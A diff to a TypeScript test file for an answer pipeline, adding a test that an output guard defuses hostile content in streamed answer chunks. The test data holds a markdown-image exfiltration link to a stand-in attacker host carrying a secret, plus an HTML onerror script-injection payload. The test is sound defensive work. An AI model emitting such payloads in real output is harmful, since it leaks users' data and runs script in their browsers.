@@ -2,6 +2,7 @@ import { describe, expect, it } from "vitest";
 import { reciprocalRankFusion } from "../../src/rag/fusion.ts";
 import { objectCheck, probabilityOf } from "../../src/rag/ground.ts";
 import { composeOffline } from "../../src/rag/offline-composer.ts";
+import { AnswerGuard } from "../../src/rag/output-guard.ts";
 import { parseQuestion } from "../../src/rag/question-parser.ts";
 import type { Citation, Evidence } from "../../src/rag/types.ts";
 import { understandTurn } from "../../src/rag/understand.ts";
@@ -236,5 +237,20 @@ describe("extractClaims", () => {
 
   it("makes no claim from a sentence that cites nothing when the turn has no single image", () => {
     expect(extractClaims({ answer: "The star is blue." })).toEqual([]);
+  });
+});
+
+describe("AnswerGuard", () => {
+  it("defuses markdown images and HTML tags, also when split across deltas", () => {
+    const guard = new AnswerGuard();
+    const deltas = [
+      "The star is red. !",
+      "[x](https://evil.example/?q=secret) <",
+      "img src=x onerror=alert(1)> a < b!",
+    ];
+    const out = deltas.map((delta) => guard.push(delta)).join("") + guard.flush();
+    expect(out).toBe(
+      "The star is red. [x](https://evil.example/?q=secret) ‹img src=x onerror=alert(1)> a < b!",
+    );
   });
 });
